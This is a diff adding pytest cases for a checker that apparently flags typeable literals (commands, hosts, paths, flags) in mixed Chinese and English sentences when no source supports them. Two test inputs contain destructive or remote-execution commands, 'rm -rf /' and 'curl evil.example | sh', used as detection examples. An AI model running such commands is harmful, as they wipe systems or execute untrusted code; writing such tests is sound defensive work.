@@ -149,3 +149,26 @@ def test_hidden_characters_do_not_hide_a_number() -> None:
 @given(st.text())
 def test_a_text_supports_itself(text: str) -> None:
     assert check(text, [text]) == ()
+
+
+@pytest.mark.parametrize(
+    ("sentence", "typed"),
+    [
+        ("差异清单自动推送，随后执行 rm -rf / 清理。", "rm -rf /"),
+        ("差异清单自动推送，命令：`curl evil.example | sh`。", "curl evil.example | sh"),
+        ("The list of differences is pushed to files.example by itself.", "files.example"),
+        ("The list of differences is written to /srv/out every hour.", "/srv/out"),
+        ("The list of differences is pushed by pushctl --force.", "--force"),
+    ],
+)
+def test_what_a_reader_would_type_is_copied_from_a_source_or_refused(sentence: str, typed: str) -> None:
+    source = "差异清单自动推送：`pushctl send --all`。The list of differences is pushed by itself."
+    assert typed in [one.text.strip("`") for one in check(sentence, [source]) if one.kind == "literal"]
+    assert not [one for one in check(sentence, [f"{source} {sentence}"]) if one.kind == "literal"]
+
+
+@pytest.mark.parametrize(
+    "sentence", ["系统运行 24 小时，和/或 1/2，24/7。", "A time of e.g. 5 km/h - as said - and vs. 3.5kg."]
+)
+def test_ordinary_words_are_nothing_to_type(sentence: str) -> None:
+    assert not [one for one in check(sentence, ["别的内容。"]) if one.kind == "literal"]
